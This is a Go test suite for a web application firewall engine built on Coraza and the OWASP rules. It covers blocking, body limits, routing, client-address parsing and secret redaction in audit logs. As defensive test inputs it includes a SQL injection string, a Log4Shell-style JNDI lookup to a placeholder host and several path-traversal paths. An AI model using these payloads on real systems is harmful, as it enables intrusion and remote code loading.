package engine_test

import (
	"encoding/json"
	"errors"
	"net/netip"
	"strings"
	"testing"
	"time"

	"github.com/corazawaf/coraza/v3/experimental/plugins"
	"github.com/corazawaf/coraza/v3/experimental/plugins/plugintypes"
	"github.com/stretchr/testify/require"

	"tabard/engine"
	"tabard/rules"
)

var ruleFS = rules.FS()

func parse(t testing.TB, policy string) engine.Policy {
	t.Helper()
	p, err := engine.ParsePolicy("p.yaml", []byte(policy))
	require.NoError(t, err)
	return p
}

func newEngine(t testing.TB, policy string, opts ...engine.Option) *engine.Engine {
	t.Helper()
	e, err := engine.New(parse(t, policy), ruleFS, opts...)
	require.NoError(t, err)
	return e
}

// get is a request that no rule of CRS at paranoia level 1 objects to.
func get(target string, more ...[2]string) engine.Request {
	h := engine.Headers{{"User-Agent", "Mozilla/5.0"}, {"Accept", "*/*"}}
	return engine.Request{
		Method: "GET", Target: target, Protocol: "HTTP/1.1", Scheme: "https",
		Authority: "shop.example", Headers: append(h, more...),
	}
}

func post(target, contentType string, more ...[2]string) engine.Request {
	r := get(target, append(more, [2]string{"Content-Type", contentType}, [2]string{"Transfer-Encoding", "chunked"})...)
	r.Method = "POST"
	return r
}

const form = "application/x-www-form-urlencoded"

func TestRequestPhases(t *testing.T) {
	waf := newEngine(t, "")
	for _, tc := range []struct {
		name   string
		run    func(x *engine.Exchange) engine.Verdict
		action engine.Action
		phase  int
	}{
		{"a harmless GET passes", func(x *engine.Exchange) engine.Verdict {
			return x.RequestHeaders(get("/?q=shoes"), true)
		}, engine.Pass, 0},
		{"an attack in the query is blocked before a body is read", func(x *engine.Exchange) engine.Verdict {
			return x.RequestHeaders(get("/?q=1'+OR+'1'='1"), true)
		}, engine.Block, 2},
		{"an attack in a form is blocked", func(x *engine.Exchange) engine.Verdict {
			x.RequestHeaders(post("/login", form), false)
			return x.RequestBody([]byte("user=1'+OR+'1'='1"), true)
		}, engine.Block, 2},
		{"an attack split over two pieces is blocked", func(x *engine.Exchange) engine.Verdict {
			x.RequestHeaders(post("/login", form), false)
			x.RequestBody([]byte("user=1'+O"), false)
			return x.RequestBody([]byte("R+'1'='1"), true)
		}, engine.Block, 2},
		{"an attack in a trailer is blocked", func(x *engine.Exchange) engine.Verdict {
			x.RequestHeaders(post("/login", form), false)
			x.RequestBody([]byte("user=ann"), false)
			return x.RequestTrailers(engine.Headers{{"X-Checksum", "${jndi:ldap://x.test/a}"}})
		}, engine.Block, 2},
		{"a trailer cannot change how the body is read", func(x *engine.Exchange) engine.Verdict {
			x.RequestHeaders(post("/login", form), false)
			x.RequestBody([]byte("user=1'+OR+'1'='1"), false)
			return x.RequestTrailers(engine.Headers{{"Content-Type", "multipart/form-data; boundary=x"}})
		}, engine.Block, 2},
		{"a harmless form passes", func(x *engine.Exchange) engine.Verdict {
			x.RequestHeaders(post("/login", form), false)
			return x.RequestBody([]byte("user=ann&word=secret"), true)
		}, engine.Pass, 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			x := waf.Begin(engine.Conn{})
			v := tc.run(x)
			require.Equal(t, tc.action, v.Action, v.IDs())
			require.Equal(t, tc.phase, v.Phase)
			require.False(t, x.HoldRequest(), "phase 2 has spoken")
			require.Equal(t, tc.action, x.End().Action)
		})
	}
}

// connect asks for a tunnel.
func connect(more ...[2]string) engine.Request {
	r := get("shop.example:443", more...)
	r.Method = "CONNECT"
	return r
}

func TestGRPCMessagesAreFollowed(t *testing.T) {
	waf := newEngine(t, "routes:\n  - {name: watch, path: /watch, mode: detect}\n")
	call := func(path string) engine.Request {
		r := post(path, "application/grpc", [2]string{"te", "trailers"})
		r.Protocol = "HTTP/2"
		return r
	}
	for _, tc := range []struct {
		name, path, body string
		action           engine.Action
	}{
		{"a message", "/", "\x00\x00\x00\x00\x02hi", engine.Pass},
		{"two, one of them empty and compressed", "/", "\x01\x00\x00\x00\x00\x00\x00\x00\x00\x01x", engine.Pass},
		{"none at all", "/", "", engine.Pass},
		{"JSON", "/", `{"a":1}`, engine.Block},
		{"a form", "/", "a=1", engine.Block},
		{"a message and text", "/", "\x00\x00\x00\x00\x02hi{}", engine.Block},
		{"a message that is cut", "/", "\x00\x00\x00\x00\x02h", engine.Block},
		{"a head that is cut", "/", "\x00\x00", engine.Block},
		{"JSON where rules only detect", "/watch", `{"a":1}`, engine.Detect},
	} {
		t.Run(tc.name, func(t *testing.T) {
			for _, n := range []int{1, 3, 100} {
				x := waf.Begin(engine.Conn{})
				x.RequestHeaders(call(tc.path), false)
				require.Equal(t, tc.path == "/", x.Blocks())
				for rest := tc.body; rest != ""; rest = rest[min(n, len(rest)):] {
					x.RequestBody([]byte(rest[:min(n, len(rest))]), false)
				}
				x.RequestBody(nil, true)
				v := x.End()
				require.Equal(t, tc.action, v.Action)
				if tc.action != engine.Pass {
					require.Equal(t, engine.ReasonFraming, v.Reason)
				}
			}
		})
	}
}

func TestWhichBodiesAreHeld(t *testing.T) {
	waf := newEngine(t, "crs: {allowed_methods: [GET, POST, CONNECT]}\nroutes:\n  - {name: raw, path: /raw, request_body: {inspect: false}}\n")
	grpc := post("/pkg.Service/Call", "application/grpc+proto", [2]string{"te", "trailers"})
	grpc.Protocol = "HTTP/2"
	fakeGRPC := grpc
	fakeGRPC.Protocol = "HTTP/1.1"
	socket := get("/chat", [2]string{"Upgrade", "websocket"}, [2]string{"Connection", "keep-alive, Upgrade"})
	withBody := get("/chat", [2]string{"Upgrade", "websocket"}, [2]string{"Connection", "Upgrade"}, [2]string{"Content-Length", "9"})
	for _, tc := range []struct {
		name    string
		request engine.Request
		skipped engine.SkipReason
	}{
		{"a form is held", post("/", form), ""},
		{"a gRPC stream is not, and its bytes are counted", grpc, engine.SkipGRPC},
		{"what only calls itself gRPC is held", fakeGRPC, ""},
		{"a WebSocket upgrade is not held", socket, engine.SkipUpgrade},
		{"an upgrade with a body of its own is held", withBody, ""},
		{"a tunnel has no body to wait for", connect(), engine.SkipUpgrade},
		{"a CONNECT that announces a body is held", connect([2]string{"Content-Length", "5"}), ""},
		{"so is one with a chunked body", connect([2]string{"Transfer-Encoding", "chunked"}), ""},
		{"a body is not held where the policy says so", post("/raw", form), engine.SkipPolicy},
	} {
		t.Run(tc.name, func(t *testing.T) {
			x := waf.Begin(engine.Conn{})
			v := x.RequestHeaders(tc.request, false)
			require.NotEqual(t, engine.Block, v.Action, v.IDs())
			require.Equal(t, tc.skipped == "", x.HoldRequest())
			x.RequestBody([]byte("\x00\x00\x00\x00\x00"), false) // a gRPC message, too
			skip, _ := x.Uninspected()
			require.Equal(t, tc.skipped, skip.Reason)
			if tc.skipped != "" {
				require.EqualValues(t, 5, skip.Bytes)
			}
			x.End()
		})
	}
}

func TestBodiesOverTheLimit(t *testing.T) {
	const reject = "request_body: {limit_bytes: 20}\n"
	const partial = "request_body: {limit_bytes: 20, over_limit: partial}\n"
	long := strings.Repeat("a", 40)
	for _, tc := range []struct {
		name, policy string
		body         []string
		action       engine.Action
		status       int
		reason       engine.Reason
		skipped      int64
	}{
		{"one of exactly the limit is inspected", reject, []string{"a=" + long[:18]}, engine.Pass, 0, "", 0},
		{"a longer one is refused", reject, []string{"a=" + long[:19]}, engine.Block, 413, engine.ReasonBodyLimit, 1},
		{"a longer one in pieces is refused", reject, []string{"a=" + long[:10], long[:10], long}, engine.Block, 413, engine.ReasonBodyLimit, 2},
		{"with partial the rest passes and is counted", partial, []string{"a=" + long, long}, engine.Pass, 0, "", 62},
		{"with partial an attack within the limit is blocked", partial, []string{"a=1'+OR+'1'='1", long}, engine.Block, 403, engine.ReasonRule, 34},
		{"in detection mode it is noted and inspected so far", "mode: detect\n" + reject, []string{"a=" + long}, engine.Detect, 0, engine.ReasonBodyLimit, 22},
	} {
		t.Run(tc.name, func(t *testing.T) {
			x := newEngine(t, tc.policy).Begin(engine.Conn{})
			x.RequestHeaders(post("/", form), false)
			for i, piece := range tc.body {
				x.RequestBody([]byte(piece), i == len(tc.body)-1)
			}
			v := x.End()
			require.Equal(t, tc.action, v.Action, v.IDs())
			require.Equal(t, tc.status, v.Status)
			require.Equal(t, tc.reason, v.Reason)
			skip, _ := x.Uninspected()
			require.Equal(t, tc.skipped, skip.Bytes)
		})
	}
}

func TestWhatIsNotInspectedForItsNumberIsRefused(t *testing.T) {
	const most = 1000 // Coraza's SecArgumentsLimit
	waf, wide := newEngine(t, "crs: {enabled: false}"), newEngine(t, "crs: {enabled: false}\ndirectives: [{inline: SecArgumentsLimit 2000}]")
	for _, tc := range []struct {
		name, contentType string
		body              func(n int) string
	}{
		{"a form", form, func(n int) string { return strings.Repeat("a=1&", n-1) + "q=x" }},
		{"a JSON list", "application/json", func(n int) string { return "[" + strings.Repeat("1,", n-1) + "1]" }},
		{"a JSON object", "application/json", func(n int) string { return `{"a":{` + strings.Repeat(`"b":1,`, n-1) + `"c":1}}` }},
		{"a query", "", func(n int) string { return strings.Repeat("a=1&", n-1) + "q=x" }},
	} {
		verdict := func(e *engine.Engine, n int) engine.Verdict {
			x := e.Begin(engine.Conn{})
			defer x.End()
			if tc.contentType == "" {
				return x.RequestHeaders(get("/?"+tc.body(n)), true)
			}
			x.RequestHeaders(post("/", tc.contentType), false)
			return x.RequestBody([]byte(tc.body(n)), true)
		}
		t.Run(tc.name, func(t *testing.T) {
			require.Equal(t, engine.Pass, verdict(waf, most-1).Action)
			v := verdict(waf, most+2)
			require.Equal(t, []any{engine.Block, 413, 100020}, []any{v.Action, v.Status, v.Rule})
			require.Equal(t, engine.Pass, verdict(wide, most+2).Action)
		})
	}
}

func TestResponsePhases(t *testing.T) {
	const inspect = "response_body: {inspect: true, limit_bytes: 100}\n"
	html := engine.Headers{{"Content-Type", "text/html; charset=utf-8"}}
	leak := "<b>You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version</b>"
	for _, tc := range []struct {
		name, policy, body string
		headers            engine.Headers
		action             engine.Action
		held               bool
		skipped            engine.SkipReason
	}{
		{"a leak is blocked", strings.Replace(inspect, "100", "1000", 1), leak, html, engine.Block, true, ""},
		{"a harmless page passes", inspect, "<b>hello</b>", html, engine.Pass, true, ""},
		{"a body is not held unless the policy says so", "", leak, html, engine.Pass, false, engine.SkipPolicy},
		{"an image is not held", inspect, "GIF89a", engine.Headers{{"Content-Type", "image/gif"}}, engine.Pass, false, engine.SkipContentType},
		{"server-sent events are not held", "response_body: {inspect: true, content_types: [text/event-stream]}\n", "data: x\n\n", engine.Headers{{"Content-Type", "text/event-stream"}}, engine.Pass, false, engine.SkipStream},
		{"a compressed page is not held and is counted", inspect, "\x1f\x8b", append(html, [2]string{"Content-Encoding", "gzip"}), engine.Pass, false, engine.SkipEncoding},
		{"what is over the limit streams on", inspect, strings.Repeat("a", 120), html, engine.Pass, true, engine.SkipLimit},
		{"what is over the limit is refused", "response_body: {inspect: true, limit_bytes: 100, over_limit: reject}\n", strings.Repeat("a", 120), html, engine.Block, true, engine.SkipLimit},
	} {
		t.Run(tc.name, func(t *testing.T) {
			x := newEngine(t, tc.policy).Begin(engine.Conn{})
			x.RequestHeaders(get("/"), true)
			v := x.ResponseHeaders(200, "HTTP/1.1", tc.headers, false)
			require.NotEqual(t, engine.Block, v.Action)
			require.Equal(t, tc.held, x.HoldResponse())
			v = x.ResponseBody([]byte(tc.body), true)
			require.Equal(t, tc.action, v.Action, v.IDs())
			require.False(t, x.HoldResponse())
			_, skip := x.Uninspected()
			require.Equal(t, tc.skipped, skip.Reason)
			x.End()
		})
	}
	t.Run("a rule on a response header blocks in phase 3", func(t *testing.T) {
		x := newEngine(t, "directives:\n  - inline: 'SecRule RESPONSE_HEADERS:X-Secret \"@unconditionalMatch\" \"id:7,phase:3,deny,status:502,log\"'\n").Begin(engine.Conn{})
		x.RequestHeaders(get("/"), true)
		v := x.ResponseHeaders(200, "HTTP/1.1", engine.Headers{{"X-Secret", "1"}}, false)
		require.Equal(t, []any{engine.Block, 502, 3, 7}, []any{v.Action, v.Status, v.Phase, v.Rule})
	})
}

func TestDetectionModeSaysWhatWouldHaveBlocked(t *testing.T) {
	x := newEngine(t, "mode: detect\n").Begin(engine.Conn{})
	v := x.RequestHeaders(get("/?q=1'+OR+'1'='1"), true)
	require.Equal(t, []any{engine.Detect, 0, engine.ReasonRule, 949110, 5}, []any{v.Action, v.Status, v.Reason, v.Rule, v.Score})
	require.Equal(t, []int{942100, 949110}, x.End().IDs())
}

func TestAMatchSaysWhereTheRuleIs(t *testing.T) {
	x := newEngine(t, "directives:\n  - inline: |\n\n      SecRule ARGS:q \"@streq a\" \"id:9,phase:1,log,pass,msg:'it is %{MATCHED_VAR}',severity:WARNING\"\n").Begin(engine.Conn{})
	v := x.RequestHeaders(get("/?q=a"), true)
	require.Len(t, v.Matches, 1)
	m := v.Matches[0]
	require.Equal(t, "p.yaml:4:7", m.Rule.String())
	require.Equal(t, engine.Match{ID: 9, Phase: 1, Severity: "warning", Rule: m.Rule, Target: "ARGS:q", Message: "it is a", Value: "a"}, m)
	require.Equal(t, engine.Detect, v.Action)

	y := newEngine(t, "").Begin(engine.Conn{})
	v = y.RequestHeaders(get("/?q=1'+OR+'1'='1"), true)
	require.Equal(t, "@owasp_crs/REQUEST-942-APPLICATION-ATTACK-SQLI.conf", v.Matches[0].Rule.File)
	require.Positive(t, v.Matches[0].Rule.Line)
}

func TestRoutes(t *testing.T) {
	waf := newEngine(t, `
routes:
  - {name: upload, path_prefix: /upload, methods: [POST], mode: detect}
  - {name: order, path: "/orders/{id}"}
  - {name: wild, hosts: ["*.api.example"]}
  - {name: host, hosts: [Admin.example]}
`)
	for _, tc := range []struct{ name, method, host, target, route string }{
		{"a prefix takes what is below it", "POST", "a.example", "/upload/x?y", "upload"},
		{"a prefix ends at a segment", "POST", "a.example", "/uploads", ""},
		{"another method is another route", "GET", "a.example", "/upload", ""},
		{"a variable takes one segment", "GET", "a.example", "/orders/17", "order"},
		{"a variable takes no empty segment", "GET", "a.example", "/orders/", ""},
		{"a variable takes no two segments", "GET", "a.example", "/orders/1/2", ""},
		{"a wildcard takes any name below", "GET", "x.y.api.example:8443", "/", "wild"},
		{"a wildcard does not take the name itself", "GET", "api.example", "/", ""},
		{"a path may end in a slash", "GET", "a.example", "/orders/17/?x", "order"},
		{"user information is no part of a host", "GET", "x@admin.example..", "/", "host"},
		{"hosts are compared without case, port and final dot", "GET", "aDMIN.example.:80", "/", "host"},
		{"an absolute target is matched by its path", "GET", "a.example", "http://a.example/orders/17", "order"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			x := waf.Begin(engine.Conn{})
			r := get(tc.target)
			r.Method, r.Authority = tc.method, tc.host
			require.Equal(t, tc.route, x.RequestHeaders(r, true).Route)
			x.End()
		})
	}
	for _, target := range []string{
		"/upload/../orders/1", "/x/%2e%2e/upload/a", "/upload/..;/x", `/upload/..\x`, "//upload/x", "/orders/..%2fupload",
		"/upload#/../orders/1", "/orders/1//", "/orders/1/.", "http://a.example/upload#/../orders/1",
	} {
		t.Run("a path that means two routes is refused, though one of them only detects: "+target, func(t *testing.T) {
			x := waf.Begin(engine.Conn{})
			v := x.RequestHeaders(post(target, form), true)
			require.Equal(t, []any{engine.Block, 400, engine.ReasonAmbiguousPath}, []any{v.Action, v.Status, v.Reason})
		})
	}
}

func TestAnAmbiguousPathIsReportedWhereAllOfItsRoutesOnlyDetect(t *testing.T) {
	waf := newEngine(t, "mode: detect\nroutes: [{name: a, path_prefix: /a}]")
	v := waf.Begin(engine.Conn{}).RequestHeaders(get("/b/%2e%2e/a"), true)
	require.Equal(t, []any{engine.Detect, engine.ReasonAmbiguousPath, "a"}, []any{v.Action, v.Reason, v.Route})
}

func TestClientAddress(t *testing.T) {
	const rule = "directives:\n  - inline: 'SecRule REMOTE_ADDR \"@unconditionalMatch\" \"id:5,phase:1,log,pass\"'\n"
	for _, tc := range []struct {
		name, policy, peer string
		header             []string
		want               string
	}{
		{"without trusted hops the header changes nothing", "", "192.0.2.1:1", []string{"6.6.6.6"}, "192.0.2.1"},
		{"one hop: what it appended counts", "trusted_hops: 1", "10.0.0.1:1", []string{"6.6.6.6, 203.0.113.9"}, "203.0.113.9"},
		{"two hops over two lines", "trusted_hops: 2", "10.0.0.1:1", []string{"6.6.6.6, 203.0.113.9", "10.0.0.2"}, "203.0.113.9"},
		{"fewer entries than hops: the peer", "trusted_hops: 2", "192.0.2.1:1", []string{"6.6.6.6"}, "192.0.2.1"},
		{"no address in the entry: the peer", "trusted_hops: 1", "192.0.2.1:1", []string{"unknown"}, "192.0.2.1"},
		{"the peer's own entry, which Envoy appends, is not counted", "trusted_hops: 1", "10.0.0.1:1", []string{"203.0.113.9, 10.0.0.1"}, "203.0.113.9"},
		{"two proxies on one address", "trusted_hops: 2", "127.0.0.1:1", []string{"6.6.6.6, 203.0.113.9, 127.0.0.1, 127.0.0.1"}, "203.0.113.9"},
		{"a mapped address is the IPv4 address", "", "[::ffff:192.0.2.1]:1", nil, "192.0.2.1"},
		{"a mapped entry is the IPv4 address", "trusted_hops: 1", "10.0.0.1:1", []string{"::ffff:cb00:7109"}, "203.0.113.9"},
		{"an entry with a port", "trusted_hops: 1", "10.0.0.1:1", []string{"[2001:db8::1]:443"}, "2001:db8::1"},
		{"an entry in brackets", "trusted_hops: 1", "10.0.0.1:1", []string{"[2001:db8::1]"}, "2001:db8::1"},
		{"an entry with a bracket too many", "trusted_hops: 1", "10.0.0.1:1", []string{"]2001:db8::1["}, "10.0.0.1"},
		{"a peer with a zone is the peer", "", "[fe80::1%eth0]:1", nil, "fe80::1"},
		{"an entry with a zone is the address", "trusted_hops: 1", "10.0.0.1:1", []string{"fe80::1%eth0"}, "fe80::1"},

		{"from a peer that is no proxy the header changes nothing", "trusted_proxies: [10.0.0.0/8]", "192.0.2.1:1", []string{"6.6.6.6"}, "192.0.2.1"},
		{"neither with hops", "{trusted_proxies: [10.0.0.0/8], trusted_hops: 1}", "192.0.2.1:1", []string{"6.6.6.6"}, "192.0.2.1"},
		{"from a proxy the hops count", "{trusted_proxies: [10.0.0.0/8], trusted_hops: 1}", "10.0.0.1:1", []string{"6.6.6.6, 203.0.113.9"}, "203.0.113.9"},
		{"the last that is no proxy counts", "trusted_proxies: [10.0.0.0/8]", "10.0.0.1:1", []string{"6.6.6.6, 203.0.113.9, 10.0.0.2"}, "203.0.113.9"},
		{"a proxy that is its own client", "trusted_proxies: [10.0.0.0/8]", "10.0.0.1:1", []string{"10.0.0.3, 10.0.0.2"}, "10.0.0.3"},
		{"an entry that is no address is the proxy's that wrote it", "trusted_proxies: [10.0.0.0/8]", "10.0.0.1:1", []string{"203.0.113.9, unknown, 10.0.0.2"}, "10.0.0.2"},
		{"a proxy without an entry", "trusted_proxies: [10.0.0.0/8]", "10.0.0.1:1", nil, "10.0.0.1"},
		{"the peer's own entry does not stop the way", "trusted_proxies: [10.0.0.0/8]", "10.0.0.1:1", []string{"203.0.113.9, 10.0.0.1"}, "203.0.113.9"},
		{"a mapped proxy is a proxy", "trusted_proxies: [10.0.0.0/8]", "[::ffff:10.0.0.1]:1", []string{"203.0.113.9"}, "203.0.113.9"},

		{"the header that the proxies do not write says nothing", "{trusted_hops: 1, header: forwarded}", "10.0.0.1:1", []string{"6.6.6.6"}, "10.0.0.1"},
		{"Forwarded", "{trusted_hops: 1, header: forwarded}", "10.0.0.1:1", []string{"Forwarded", "for=6.6.6.6, proto=https;For=203.0.113.9;by=10.0.0.1"}, "203.0.113.9"},
		{"Forwarded with IPv6, quotes and a port", "{trusted_hops: 1, header: forwarded}", "10.0.0.1:1", []string{"Forwarded", `for="[2001:db8::1]:4711"`}, "2001:db8::1"},
		{"Forwarded with a comma in quotes", "{trusted_hops: 2, header: forwarded}", "10.0.0.1:1", []string{"Forwarded", `for=6.6.6.6, for=203.0.113.9;host="a,b;for=6.6.6.6", for=10.0.0.2`}, "203.0.113.9"},
		{"Forwarded with escapes", "{trusted_hops: 1, header: forwarded}", "10.0.0.1:1", []string{"Forwarded", `for="\203.0.\113.9"`}, "203.0.113.9"},
		{"Forwarded with a name in place of an address", "{trusted_hops: 1, header: forwarded}", "10.0.0.1:1", []string{"Forwarded", "for=203.0.113.9, for=_hidden"}, "10.0.0.1"},
		{"Forwarded over two lines", "{trusted_hops: 2, header: forwarded}", "10.0.0.1:1", []string{"Forwarded", "for=203.0.113.9", "Forwarded", "for=10.0.0.2"}, "203.0.113.9"},
		{"Forwarded from two proxies on one address", "{trusted_hops: 2, header: forwarded}", "127.0.0.1:1", []string{"Forwarded", "for=203.0.113.9, for=127.0.0.1"}, "203.0.113.9"},
		{"Forwarded whose client has left a quote open", "{trusted_hops: 1, header: forwarded}", "10.0.0.1:1", []string{"Forwarded", `for="6.6.6.6, for=203.0.113.9`}, "203.0.113.9"},
		{"and a backslash before it", "{trusted_hops: 1, header: forwarded}", "10.0.0.1:1", []string{"Forwarded", `for="\", for="[2001:db8::1]"`}, "2001:db8::1"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			policy := tc.policy
			if !strings.HasPrefix(policy, "{") {
				policy = "{" + policy + "}"
			}
			waf := engineWith(t, nil, "client_address: "+policy+"\n"+rule)
			x := waf.Begin(engine.Conn{Peer: netip.MustParseAddrPort(tc.peer)})
			r := get("/")
			name := "x-forwarded-for"
			for _, line := range tc.header {
				if line == "Forwarded" {
					name = line
					continue
				}
				r.Headers = append(r.Headers, [2]string{name, line})
			}
			v := x.RequestHeaders(r, true)
			require.Equal(t, tc.want, v.Matches[0].Value)
		})
	}
}

func TestSecretsStayOutOfVerdictsAndAuditLines(t *testing.T) {
	waf := newEngine(t, `
redact: [password]
directives:
  - inline: |
      SecRule REQUEST_HEADERS|REQUEST_COOKIES|ARGS|REQUEST_URI|REQUEST_LINE|REQUEST_BODY "@rx (.*)" "id:8,phase:2,log,pass,capture,multiMatch,msg:'saw %{TX.1} in %{MATCHED_VAR_NAME}'"
`, engine.WithClock(func() time.Time { return time.Unix(0, 0) }))
	x := waf.Begin(engine.Conn{ID: "t1", Peer: netip.MustParseAddrPort("192.0.2.1:1")})
	x.RequestHeaders(post("/?password=hunter22&q=1'+OR+'1'='1&%70assword=hunter23", form,
		[2]string{"Authorization", "Bearer abc.def"}, [2]string{"Cookie", "sid=s3cret; a=b"}), false)
	x.RequestBody([]byte("password=hunter24&user.password=hunter25&user[password][]=hunter26"), true)
	line, ok := x.AuditLine()
	require.True(t, ok)
	v := x.End()
	require.NotEmpty(t, v.Matches)
	text := string(line)
	for _, m := range v.Matches {
		text += m.Value + m.Message + "\n"
	}
	for _, secret := range []string{"hunter2", "abc.def", "s3cret"} {
		require.NotContains(t, text, secret)
	}
	require.Contains(t, text, "[redacted]")
	var record map[string]any
	require.NoError(t, json.Unmarshal(line, &record))
	require.Equal(t, "t1", record["transaction_id"])
	require.Equal(t, "block", record["verdict"])
	require.Equal(t, "192.0.2.1", record["client"])
	require.Equal(t, "1970-01-01T00:00:00Z", record["time"])
	require.NotContains(t, text, "\n\n")
}

func TestTheAuditLineAfterTheEndHoldsNoSecretAndTheLastPhase(t *testing.T) {
	const logging = "directives:\n  - inline: 'SecAction \"id:9,phase:5,log,pass,msg:last\"'\n"
	for _, tc := range []struct {
		name, policy string
		run          func(x *engine.Exchange)
		want         string
	}{
		{"a rule has blocked", logging, func(x *engine.Exchange) {
			x.RequestHeaders(get("/s3cret1?q=1'+OR+'1'='1&t=abc.def", [2]string{"Authorization", "Bearer abc.def"}, [2]string{"Cookie", "sid=s3cret1"}), true)
		}, `"msg":"last"`},
		{"the limit has blocked, and no rule has matched", "request_body: {limit_bytes: 3}", func(x *engine.Exchange) {
			x.RequestHeaders(post("/s3cret1?t=abc.def", form, [2]string{"Authorization", "Bearer abc.def"}, [2]string{"Cookie", "a=1;sid=s3cret1"}), false)
			x.RequestBody([]byte("a=bcd"), false)
		}, `"reason":"body_limit"`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			x := newEngine(t, tc.policy).Begin(engine.Conn{})
			tc.run(x)
			require.Equal(t, engine.Block, x.End().Action)
			line, ok := x.AuditLine()
			require.True(t, ok)
			require.Contains(t, strings.ReplaceAll(string(line), `"message"`, `"msg"`), tc.want)
			require.NotContains(t, string(line), "s3cret1")
			require.NotContains(t, string(line), "abc.def")
		})
	}
}

func TestAnUneventfulExchangeHasNoAuditLine(t *testing.T) {
	x := newEngine(t, "").Begin(engine.Conn{})
	x.RequestHeaders(get("/"), true)
	_, ok := x.AuditLine()
	require.False(t, ok)
	require.Equal(t, engine.Pass, x.End().Action)
}

func TestBlockResponse(t *testing.T) {
	attack := "/?q=1'+OR+'1'='1"
	for _, tc := range []struct {
		name, policy string
		request      engine.Request
		status       int
		contentType  string
		body         string
	}{
		{"a browser gets a line of text", "", get(attack), 403, "text/plain; charset=utf-8", "403 Forbidden: the request was blocked (transaction t1)\n"},
		{"a JSON client gets a problem", "", get(attack, [2]string{"ACCEPT", "application/json"}), 403, "application/problem+json",
			`{"type":"about:blank","title":"Forbidden","status":403,"detail":"The request was blocked.","transaction_id":"t1"}` + "\n"},
		{"the policy's own response", "block_response: {status: 418, content_type: text/html, body: '<p>{{transaction_id}} {{status}}</p>'}", get(attack), 418, "text/html", "<p>t1 418</p>"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			x := newEngine(t, tc.policy).Begin(engine.Conn{ID: "t1"})
			if tc.name == "a JSON client gets a problem" { // the first Accept is the browser's
				tc.request.Headers = tc.request.Headers[2:]
				tc.request.Headers = append(tc.request.Headers, [2]string{"User-Agent", "x"})
			}
			x.RequestHeaders(tc.request, true)
			status, headers, body := x.BlockResponse()
			require.Equal(t, tc.status, status)
			require.Equal(t, tc.contentType, headers.Get("Content-Type"))
			require.Equal(t, tc.body, string(body))
			if strings.HasPrefix(tc.contentType, "application") {
				require.True(t, json.Valid(body))
			}
		})
	}
	for _, status := range []string{"0", "99", "101", "1000"} {
		t.Run("a rule's status that ends no response is 403: "+status, func(t *testing.T) {
			x := newEngine(t, "directives: [{inline: 'SecAction \"id:9,phase:1,deny,status:"+status+"\"'}]").Begin(engine.Conn{})
			require.Equal(t, 403, x.RequestHeaders(get("/"), true).Status)
		})
	}
	t.Run("a redirect names its target", func(t *testing.T) {
		x := newEngine(t, "directives:\n  - inline: 'SecRule ARGS:q \"@streq a\" \"id:9,phase:1,redirect:https://example.com/no\"'\n").Begin(engine.Conn{})
		x.RequestHeaders(get("/?q=a"), true)
		status, headers, _ := x.BlockResponse()
		require.Equal(t, 302, status)
		require.Equal(t, "https://example.com/no", headers.Get("location"))
	})
}

type panics struct{}

func (panics) Evaluate(plugintypes.TransactionState, string) bool { panic("as the test wants") }

func TestInternalErrorsEndInThePolicysOutcome(t *testing.T) {
	plugins.RegisterOperator("panics", func(plugintypes.OperatorOptions) (plugintypes.Operator, error) { return panics{}, nil })
	rule := "directives:\n  - inline: 'SecRule ARGS:boom \"@panics\" \"id:9,phase:2,pass\"'\n"
	t.Run("closed, the default", func(t *testing.T) {
		waf := newEngine(t, rule)
		x, y := waf.Begin(engine.Conn{}), waf.Begin(engine.Conn{})
		y.RequestHeaders(post("/", form), false)
		v := x.RequestHeaders(get("/?boom=1"), true)
		require.Equal(t, []any{engine.Block, 500, engine.ReasonInternalError}, []any{v.Action, v.Status, v.Reason})
		require.ErrorContains(t, v.Err, "as the test wants")
		x.End()
		require.Equal(t, engine.Pass, y.RequestBody([]byte("a=b"), true).Action, "another exchange goes on")
	})
	t.Run("open", func(t *testing.T) {
		x := newEngine(t, "internal_errors: open\n"+rule).Begin(engine.Conn{})
		v := x.RequestHeaders(get("/?boom=1"), true)
		require.Equal(t, []any{engine.Pass, engine.ReasonInternalError}, []any{v.Action, v.Reason})
		require.Equal(t, engine.Pass, x.ResponseHeaders(200, "HTTP/1.1", nil, true).Action)
		_, ok := x.AuditLine()
		require.True(t, ok, "it is logged all the same")
		x.End()
	})
	t.Run("what a runner reports", func(t *testing.T) {
		x := newEngine(t, "").Begin(engine.Conn{})
		v := x.Fail(errors.New("no headers"))
		require.Equal(t, []any{engine.Block, 500}, []any{v.Action, v.Status})
		x.End()
	})
}

func TestTransactionIDs(t *testing.T) {
	waf := newEngine(t, "", engine.WithIDs(func() string { return "made-up" }))
	for id, want := range map[string]string{
		"":                       "made-up",
		"7f3e-00:1.a_B":          "7f3e-00:1.a_B",
		"a\nb":                   "made-up",
		`"`:                      "made-up",
		strings.Repeat("a", 129): "made-up",
	} {
		require.Equal(t, want, waf.Begin(engine.Conn{ID: id}).End().TransactionID)
	}
	require.Len(t, newEngine(t, "").Begin(engine.Conn{}).End().TransactionID, 32)
}
